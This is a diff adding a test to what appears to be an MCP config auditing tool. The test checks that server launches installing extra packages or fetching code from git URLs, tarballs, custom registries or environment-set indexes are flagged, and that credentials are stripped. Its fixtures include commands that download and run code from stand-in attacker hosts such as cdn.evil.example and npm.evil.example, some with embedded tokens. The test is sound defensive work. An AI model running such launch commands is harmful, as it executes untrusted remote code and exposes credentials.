@@ -10,6 +10,7 @@ import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { MCP_CONFIG_MAX_BYTES, readMcpConfig, type ConfiguredServer } from '../../../src/audit/mcp/read-config.js';
 import { LockfileError } from '../../../src/audit/types.js';
+import { npmDefaultRegistry } from '../../../src/sources/npm/config.js';
 import { REPO_ROOT } from '../../support/run-cli.js';
 
 const CLIENTS = path.join(REPO_ROOT, 'fixtures', 'mcp-clients');
@@ -27,7 +28,7 @@ function summary(servers: readonly ConfiguredServer[]): string[] {
   return servers.map(({ key, launch: l }) => {
     switch (l.kind) {
       case 'package':
-        return `${key} ${l.ecosystem} ${l.name} ${l.version ?? l.spec ?? '-'}`;
+        return [`${key} ${l.ecosystem} ${l.name} ${l.version ?? l.spec ?? '-'}`, ...l.extra.map((e) => `+ ${e.ecosystem} ${e.name} ${e.version ?? e.spec ?? '-'}`)].join(' ');
       case 'image':
         return `${key} image ${l.image}${l.widening.length > 0 ? ` ${l.widening.join(',')}` : ''}`;
       case 'remote':
@@ -36,6 +37,8 @@ function summary(servers: readonly ConfiguredServer[]): string[] {
         return `${key} local ${l.command} ${l.file ?? '-'}`;
       case 'nuget':
         return `${key} nuget ${l.identifier}`;
+      case 'fetched':
+        return `${key} fetched ${l.code.map((c) => `${c.ecosystem}:${c.name ?? '?'} ${c.host ?? c.source}`).join(' ')}`;
       default:
         return `${key} unknown ${l.command}`;
     }
@@ -185,6 +188,63 @@ describe('written odd cases', () => {
   it('odd values are data: a numeric command, args that are not strings, a server that is not an object', () => {
     const text = JSON.stringify({ mcpServers: { a: { command: 42 }, b: { command: 'npx', args: [1, null, '-y', 'ok-pkg'] }, c: 'npx x', d: null } });
     expect(summary(readMcpConfig(text, 'x.json'))).toEqual(['a unknown ', 'b npm ok-pkg -', 'c unknown ', 'd unknown ']);
+  });
+
+  it('launches that install more than one package, or code no registry vouches for, say so', () => {
+    const servers = {
+      twoPackages: { command: 'npx', args: ['-y', '-p', 'good-mcp@1.0.0', '--package=helper-lib@^2', 'good-mcp'] },
+      withExtra: { command: 'uvx', args: ['--with', 'pluginpkg,other==1.2', 'mcp-server-time'] },
+      github: { command: 'npx', args: ['-y', 'github:evil/mcp-server'] },
+      shorthand: { command: 'npx', args: ['-y', 'evil/mcp-server#main'] },
+      tarball: { command: 'npx', args: ['https://user:tok@cdn.evil.example/x.tgz?sig=1'] },
+      aliasGit: { command: 'npx', args: ['-y', 'good-mcp@git+https://gitlab.example/g/good.git'] },
+      uvGit: { command: 'uvx', args: ['--from', 'git+https://github.com/acme/mcp-tool', 'mcp-tool'] },
+      uvPep508: { command: 'uvx', args: ['--from', 'mcp-tool @ git+https://github.com/acme/mcp-tool@v1', 'mcp-tool'] },
+      pipxUrl: { command: 'pipx', args: ['run', '--spec', 'https://files.example/tool-1.0.tar.gz', 'tool'] },
+      npmRegistry: { command: 'npx', args: ['-y', '--registry', 'https://npm.evil.example/', '@modelcontextprotocol/server-filesystem'] },
+      npmPublic: { command: 'npx', args: ['-y', `--registry=${npmDefaultRegistry()}`, 'left-pad'] },
+      npmToPypi: { command: 'npx', args: ['-y', '--registry=https://pypi.org/simple', 'left-pad'] },
+      uvPublic: { command: 'uvx', args: ['--index-url', 'https://pypi.org/simple/', 'mcp-server-fetch'] },
+      scopedRegistry: { command: 'npm', args: ['exec', '--@acme:registry=https://npm.evil.example', '--', '@acme/mcp'] },
+      uvIndex: { command: 'uvx', args: ['--index-url', 'https://pypi.evil.example/simple', 'mcp-server-fetch'] },
+      uvIndexShort: { command: 'uvx', args: ['-i', 'https://pypi.evil.example/simple', 'mcp-server-fetch'] },
+      envRegistry: { command: 'npx', args: ['-y', 'some-mcp'], env: { NPM_CONFIG_REGISTRY: 'https://secret-token@npm.evil.example' } },
+      envIndex: { command: 'uvx', args: ['some-py-mcp'], env: { UV_INDEX_URL: 'https://x' } },
+      envOther: { command: 'npx', args: ['-y', 'some-mcp'], env: { API_KEY: 'k' } },
+      denoNpm: { command: 'deno', args: ['run', '-A', '--config', 'deno.json', 'npm:@scope/deno-mcp@1.2.3'] },
+      denoJsr: { command: 'deno', args: ['run', '-A', 'jsr:@scope/mcp'] },
+      denoUrl: { command: 'deno', args: ['run', '--allow-net', 'https://deno.evil.example/mcp.ts'] },
+      denoLocal: { command: 'deno', args: ['run', 'server.ts'] },
+    };
+    const read = readMcpConfig(JSON.stringify({ mcpServers: servers }), '.mcp.json');
+    expect(summary(read)).toEqual([
+      'twoPackages npm good-mcp 1.0.0 + npm helper-lib ^2',
+      'withExtra pypi mcp-server-time - + pypi pluginpkg - + pypi other 1.2',
+      'github fetched npm:? github.com',
+      'shorthand fetched npm:? github.com',
+      'tarball fetched npm:? cdn.evil.example',
+      'aliasGit fetched npm:good-mcp gitlab.example',
+      'uvGit fetched pypi:? github.com',
+      'uvPep508 fetched pypi:mcp-tool github.com',
+      'pipxUrl fetched pypi:? files.example',
+      'npmRegistry fetched npm:@modelcontextprotocol/server-filesystem npm.evil.example',
+      'npmPublic npm left-pad -',
+      'npmToPypi fetched npm:left-pad pypi.org',
+      'uvPublic pypi mcp-server-fetch -',
+      'scopedRegistry fetched npm:@acme/mcp npm.evil.example',
+      'uvIndex fetched pypi:mcp-server-fetch pypi.evil.example',
+      'uvIndexShort fetched pypi:mcp-server-fetch pypi.evil.example',
+      'envRegistry fetched npm:some-mcp env NPM_CONFIG_REGISTRY',
+      'envIndex fetched pypi:some-py-mcp env UV_INDEX_URL',
+      'envOther npm some-mcp -',
+      'denoNpm npm @scope/deno-mcp 1.2.3',
+      'denoJsr unknown deno',
+      'denoUrl fetched npm:? deno.evil.example',
+      'denoLocal local deno server.ts',
+    ]);
+    // Sources are kept without credentials or query strings; env values are never read.
+    const text = JSON.stringify(read);
+    expect(text).not.toMatch(/tok@|sig=1|secret-token|"k"/);
   });
 
   it('hostile keys do not reach Object.prototype', () => {
